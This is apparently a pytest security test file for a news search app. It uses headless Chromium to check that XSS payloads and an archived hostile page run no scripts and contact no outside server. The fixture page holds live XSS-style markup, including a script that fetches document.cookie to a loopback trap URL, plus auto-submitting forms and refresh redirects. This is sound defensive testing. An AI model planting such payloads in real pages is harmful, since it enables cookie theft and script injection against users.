"""XSS and the sandboxed archive viewer in a real browser: headless Chromium on the app served by waitress.

Escaping tests on the HTML text (tests/test_security.py) show that payloads come back as text; this file
shows what a reader's browser does with the pages: no payload opens a dialog, and the archived copy of a
hostile page runs none of its scripts and reaches no other server (a loopback listener counts every request
it would make). Skipped where Debian's Chromium is not installed.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

import pytest

from crawler.archive import ArchiveWriter, Exchange, iso_now
from searchapp import create_app
from searchapp.server import BackgroundServer
from tests.test_security import PAYLOADS, hostile_record
from tests.webfixtures import BROWSER_MARKS, sample_records

pytestmark = BROWSER_MARKS


class Trap:
    """A loopback HTTP server that records every request: where a script that ran would send its loot."""

    def __init__(self) -> None:
        hits = self.hits = []  # type: list[str]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Trap:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with Trap() as listening:
        yield listening


def hostile_page(trap: str) -> bytes:
    return f"""<!DOCTYPE html><html><head><title>archived</title>
<script>document.title = "SCRIPT RAN"; fetch("{trap}/script?c=" + document.cookie); alert(1);</script>
<script src="{trap}/external.js"></script>
<link rel="stylesheet" href="{trap}/style.css">
<meta http-equiv="refresh" content="0; url={trap}/refresh">
</head><body onload="document.title='ONLOAD RAN'">
<p>Archived text of the article.</p>
<img src="{trap}/img.png" onerror="document.title='ONERROR RAN'">
<iframe src="{trap}/frame"></iframe>
<form action="{trap}/form" method="get"><input name="x" value="1"></form>
<script>document.forms[0].submit();</script>
</body></html>""".encode()


@pytest.fixture(scope="module")
def base_url(tmp_path_factory: pytest.TempPathFactory, trap: Trap, module_engine: str) -> Iterator[str]:
    """The app on waitress over a real index (on each engine in turn) holding the sample corpus and a hostile
    page's archived copy."""
    from index import open_index

    data = tmp_path_factory.mktemp("secbrowser")
    app = create_app({"data": str(data), "ui_lang": "en"})
    writer = ArchiveWriter(app.config["PATHS"].archive)
    name, offset = writer.write(
        Exchange(
            "https://batys.kz/news/hostile.html",
            [],
            200,
            "OK",
            [("Content-Type", "text/html; charset=utf-8")],
            hostile_page(trap.url),
            iso_now(),
            role="article",
        )
    )
    writer.close()
    index = open_index(data / "index")
    index.add([*sample_records(), hostile_record(name, offset)])
    app.extensions["searchapp.index"] = index
    try:
        with BackgroundServer(app) as server:
            yield server.url
    finally:
        index.close()


@pytest.fixture
def tab(browser: Any) -> Iterator[Any]:
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(15_000)
    dialogs: list[str] = []

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.dialogs = dialogs
    yield page
    context.close()
    assert dialogs == [], f"a payload ran: {dialogs}"


@pytest.mark.parametrize(
    "path",
    [
        "/?q=" + quote(" ".join(PAYLOADS)),
        "/?q=" + quote("налогах"),
        "/?source=batys.kz",
        "/articles/hostile01",
        "/?region=" + quote(PAYLOADS[1]),
        "/articles/" + quote(PAYLOADS[0], safe=""),
    ],
)
def test_no_payload_runs_in_the_browser(tab: Any, base_url: str, path: str) -> None:
    tab.goto(base_url + path)
    tab.wait_for_load_state("load")
    assert tab.evaluate("document.querySelectorAll('script:not([src])').length") == 0  # no inline script at all
    assert tab.evaluate("document.querySelectorAll('img[onerror], svg[onload]').length") == 0


def test_archived_copy_runs_no_script_and_reaches_no_one(tab: Any, base_url: str, trap: Trap) -> None:
    trap.hits.clear()
    tab.goto(base_url + "/articles/hostile01/archived")
    tab.wait_for_load_state("load")
    tab.wait_for_timeout(1500)  # time for a refresh, a form submission or a late fetch to happen
    assert "Archived text of the article." in tab.content()
    assert tab.title() == "archived"  # neither the inline script, onload nor onerror ran
    assert tab.url.endswith("/articles/hostile01/archived")  # no meta refresh, no form submission
    assert trap.hits == [], f"the archived page reached out: {trap.hits}"


def test_article_page_links_the_archived_copy_and_stays_clean(tab: Any, base_url: str, trap: Trap) -> None:
    trap.hits.clear()
    tab.goto(base_url + "/articles/hostile01")
    tab.wait_for_load_state("load")
    link = tab.locator("a[href$='/archived']")
    if link.count():
        link.first.click()
        tab.wait_for_load_state("load")
        tab.wait_for_timeout(1000)
        assert tab.title() == "archived"
    assert trap.hits == []
